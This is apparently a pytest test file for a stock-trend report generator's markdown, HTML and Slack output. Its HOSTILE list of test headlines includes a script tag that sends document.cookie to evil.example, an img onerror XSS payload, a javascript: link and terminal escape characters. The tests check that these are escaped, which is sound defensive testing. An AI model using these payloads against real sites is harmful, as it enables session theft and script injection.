"""The report: what it says, and that hostile headlines stay text in each of its forms."""

from __future__ import annotations

import re
from datetime import date, timedelta
from html.parser import HTMLParser

import pytest

from sparktrends.batch.report import html, markdown, slack_alert
from sparktrends.batch.trends import Day, Story, Trend, ranked, trend_of
from sparktrends.store.outbox import row_of, silence_reason

DAY = date(2024, 11, 21)
HOSTILE = (
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    '"><img src=//evil.example/x onerror=alert(1)>',
    "[click](javascript:alert(1)) **bold** | cell | `code`",
    "![](https://evil.example/x.png) <https://evil.example>",
    "\u202egnihtemos\u202c\x1b[2J\nnew line",
    "A" * 5_000,
)


def trends(*headlines: str, source: str = "yahoo") -> list[Trend]:
    """Two symbols: one that jumps and is spoken of, one that rests."""
    usual = [Day(DAY - timedelta(80 - n), 100.0 + n % 2, 1000.0 + n % 7, 0.01, 0.0, 1) for n in range(80)]
    told = [Story(text, 0.6, "positive", ("earnings",)) for text in headlines]
    found = [
        trend_of(source, "NVDA", [*usual, Day(DAY, 108.0, 3100.0, 0.02)], told),
        trend_of(source, "KO", [*usual, Day(DAY, 100.5, 1000.0, 0.01)], []),
    ]
    return ranked([trend for trend in found if trend])


CLOSES = {("yahoo", "NVDA"): [(DAY - timedelta(n), 100.0 + n) for n in range(60)]}


class Tags(HTMLParser):
    """Every element of a page with its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def test_markdown_says_who_moved_and_why() -> None:
    text = markdown(DAY, trends("NVDA beats estimates"), ["Finnhub was down: its news are missing"])
    assert text.startswith("# Trends of 2024-11-21\n")
    assert "2 symbols, 1 up and 1 down, 1 moved more than usual" in text
    assert "> Finnhub was down\\: its news are missing" in text
    assert "- **NVDA** (yahoo): up 6\\.9 %, volume 3\\.1×, 1 headline positive about earnings" in text
    assert "| 2 | KO | yahoo | 100.50 | -0.5 % |" in text


@pytest.mark.parametrize("headline", HOSTILE)
def test_hostile_headlines_stay_text_in_html(headline: str) -> None:
    honest = Tags(html(DAY, trends("harmless"), CLOSES)).found
    page = html(DAY, trends(headline), CLOSES, [headline])
    found = Tags(page).found
    assert [tag for tag, _ in found if tag != "p"] == [tag for tag, _ in honest if tag != "p"]
    assert not {name for _, attributes in found for name in attributes if name.startswith("on")}
    assert "\u202e" not in page
    assert "\x1b" not in page


@pytest.mark.parametrize("headline", HOSTILE)
def test_hostile_headlines_stay_text_in_markdown(headline: str) -> None:
    text = markdown(DAY, trends(headline), [headline])
    bare = re.sub(r"\\.", "", text)
    assert not re.search(r"[\[\]`<\u202e\x1b]", bare.replace("> ", ""))
    assert len([line for line in text.split("\n") if line.startswith("| ")]) == 3
    assert max(map(len, text.split("\n"))) < 600


def test_the_page_loads_nothing() -> None:
    page = html(DAY, trends("x"), CLOSES)
    assert "default-src 'none'" in page
    found = Tags(page).found
    assert not {tag for tag, _ in found} & {"script", "link", "img", "iframe", "a"}
    assert not {name for _, attributes in found for name in attributes} & {"src", "href", "style"}


def test_the_page_draws_the_closes_it_is_given() -> None:
    page = html(DAY, trends("x"), CLOSES)
    assert page.count('class="spark') == 2  # in the card and in the table; KO has no closes
    assert 'aria-label="60 closes from 100 to 159"' in page


def test_a_day_without_symbols_says_so() -> None:
    assert "no symbol has a bar of this day" in markdown(DAY, [])
    assert "no symbol has a bar of this day" in html(DAY, [], {})


def test_a_message_a_day_with_the_movers() -> None:
    alert = slack_alert(DAY, trends("NVDA beats estimates"), ("slack",))
    assert alert.title == "Trends of 2024-11-21: 2 symbols, 1 up and 1 down, 1 moved more than usual"
    assert alert.values == {
        "NVDA": "up 6.9 %, volume 3.1×, 1 headline positive about earnings, highest close in 60 days"
    }
    assert alert.id == slack_alert(DAY, [], ("slack",)).id != slack_alert(DAY + timedelta(1), [], ("slack",)).id
    assert row_of(alert, None, silence_reason(alert, alert.start))["told"] == ["console", "slack"]


def test_made_up_series_are_named_so_and_not_sent() -> None:
    made = trends("x", source="random~sim")
    alert = slack_alert(DAY, made, ("slack",))
    assert silence_reason(alert, alert.start) == "simulated"
    assert "simulated" in html(DAY, made, {})
    mixed = slack_alert(DAY, [*made, *trends("y")], ("slack",))
    assert silence_reason(mixed, mixed.start) is None
    assert mixed.title.startswith("Trends of 2024-11-21: 2 symbols")


def test_a_symbol_of_three_providers_is_one_symbol_and_one_mover() -> None:
    several = [trend._replace(rank=None) for s in ("yahoo", "twelve_data") for trend in trends("x", source=s)]
    found = ranked(several, lambda trend: trend.symbol)
    assert [(trend.symbol, trend.rank) for trend in found] == [("NVDA", 1), ("NVDA", 1), ("KO", 2), ("KO", 2)]
    alert = slack_alert(DAY, found, ("slack",))
    assert alert.title == "Trends of 2024-11-21: 2 symbols, 1 up and 1 down, 1 moved more than usual"
    text = markdown(DAY, found)
    assert text.count("- **NVDA**") == 1
    assert text.count("| NVDA |") == 2  # the table has every series
